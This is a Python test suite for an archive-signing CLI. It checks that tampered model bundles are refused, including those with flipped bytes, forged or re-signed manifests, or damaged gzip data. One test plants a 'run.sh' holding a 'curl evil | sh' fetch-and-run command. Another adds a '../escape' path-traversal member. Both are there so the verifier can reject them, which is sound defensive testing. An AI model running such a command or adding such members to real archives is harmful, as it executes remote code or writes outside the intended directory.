"""Signed archives: `mofang bundle verify` accepts the factory's archive and names the first bad file of a
tampered one (byte flip, replaced file, added file, forged manifest, another key, a damaged gzip)."""

from __future__ import annotations

import base64
import io
import json
import tarfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from mofang.cli import app
from mofang.integration.archive import MANIFEST, SIGNATURE, ArchiveRefused, pack_signed, verify_archive
from mofang.security.signing import FactoryKey, load_factory_key


@pytest.fixture()
def signed(tmp_path: Path, home: Path) -> tuple[Path, FactoryKey]:
    folder = tmp_path / "edge"
    (folder / "sub").mkdir(parents=True)
    (folder / "model.onnx").write_bytes(bytes(range(256)) * 40)
    (folder / "preprocess.json").write_text(json.dumps({"format": "x"}), "utf-8")
    (folder / "sub" / "model_card.md").write_text("# 卡片\n", "utf-8")
    key = load_factory_key(home)
    archive = tmp_path / "edge.tar.gz"
    pack_signed(folder, archive, key, {"product": "p", "parity": {"rows": 3, "max_abs_diff": 0.0}})
    return archive, key


def _members(archive: Path) -> dict[str, bytes]:
    with tarfile.open(archive, "r:gz") as tar:
        return {m.name: tar.extractfile(m).read() for m in tar}  # type: ignore[union-attr]


def _repack(members: dict[str, bytes], target: Path) -> Path:
    with tarfile.open(target, "w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return target


def _verify(archive: Path, *extra: str):
    return CliRunner().invoke(app, ["bundle", "verify", str(archive), *extra])


def test_the_factory_archive_verifies(signed) -> None:
    archive, key = signed
    manifest = verify_archive(archive, key.public_pem())
    assert {f["path"] for f in manifest["files"]} == {"model.onnx", "preprocess.json", "sub/model_card.md"}
    result = _verify(archive)
    assert result.exit_code == 0 and "verified" in result.output and key.key_id in result.output, result.output


def test_a_flipped_byte_names_the_file(signed, tmp_path) -> None:
    archive, _ = signed
    members = _members(archive)
    onnx = bytearray(members["model.onnx"])
    onnx[100] ^= 0x01
    members["model.onnx"] = bytes(onnx)
    result = _verify(_repack(members, tmp_path / "flipped.tar.gz"))
    assert result.exit_code == 3 and "model.onnx: checksum mismatch" in " ".join(result.output.split())


def test_a_replaced_file_names_the_file(signed, tmp_path) -> None:
    archive, key = signed
    members = _members(archive)
    members["sub/model_card.md"] = b"# a different card\n"
    with pytest.raises(ArchiveRefused, match=r"^sub/model_card\.md: checksum mismatch"):
        verify_archive(_repack(members, tmp_path / "replaced.tar.gz"), key.public_pem())


def test_an_added_or_missing_file_is_refused(signed, tmp_path) -> None:
    archive, key = signed
    members = _members(archive)
    with pytest.raises(ArchiveRefused, match=r"^run\.sh: not listed"):
        verify_archive(_repack({**members, "run.sh": b"curl evil | sh"}, tmp_path / "added.tar.gz"), key.public_pem())
    del members["preprocess.json"]
    with pytest.raises(ArchiveRefused, match=r"^preprocess\.json: listed in the manifest but missing"):
        verify_archive(_repack(members, tmp_path / "missing.tar.gz"), key.public_pem())


def test_a_forged_manifest_is_refused(signed, tmp_path) -> None:
    """The attacker replaces a file and rewrites its checksum in the manifest (keeping the old signature), or
    signs the forged manifest with a key of their own."""
    archive, key = signed
    members = _members(archive)
    members["model.onnx"] = b"evil model"
    manifest = json.loads(members[MANIFEST])
    for entry in manifest["files"]:
        if entry["path"] == "model.onnx":
            import hashlib

            entry.update(bytes=len(b"evil model"), sha256=hashlib.sha256(b"evil model").hexdigest())
    members[MANIFEST] = json.dumps(manifest, indent=1, sort_keys=True).encode()
    result = _verify(_repack(members, tmp_path / "forged.tar.gz"))
    assert result.exit_code == 3 and "MANIFEST.json: the signature does not match" in " ".join(result.output.split())
    attacker = FactoryKey.generate()
    members[SIGNATURE] = base64.b64encode(attacker.sign(members[MANIFEST])) + b"\n"
    resigned = _repack(members, tmp_path / "resigned.tar.gz")
    assert _verify(resigned).exit_code == 3
    pem = tmp_path / "attacker.pem"
    pem.write_text(attacker.public_pem(), "utf-8")
    assert _verify(resigned, "--public-key", str(pem)).exit_code == 0  # it is only valid for the attacker's key
    assert verify_archive(resigned, attacker.public_pem())["files"]


def test_a_damaged_gzip_and_unsafe_members_are_refused(signed, tmp_path) -> None:
    archive, key = signed
    data = bytearray(archive.read_bytes())
    data[len(data) // 2] ^= 0xFF
    damaged = tmp_path / "damaged.tar.gz"
    damaged.write_bytes(bytes(data))
    with pytest.raises(ArchiveRefused, match="damaged|checksum|signature"):
        verify_archive(damaged, key.public_pem())
    with pytest.raises(ArchiveRefused, match=r"\.\./escape: a path outside"):
        verify_archive(_repack({**_members(archive), "../escape": b"x"}, tmp_path / "escape.tar.gz"), key.public_pem())


def test_without_a_factory_key_the_verifier_asks_for_one(tmp_path, home) -> None:
    key = FactoryKey.generate()
    folder = tmp_path / "f"
    folder.mkdir()
    (folder / "a.txt").write_text("a", "utf-8")
    pack_signed(folder, tmp_path / "a.tar.gz", key, {})
    result = _verify(tmp_path / "a.tar.gz")  # a customer machine: no factory key in MOFANG_HOME
    assert result.exit_code == 2 and "--public-key" in " ".join(result.output.split())
    assert not (home / "factory_ed25519.pem").exists()  # and none was created on the way
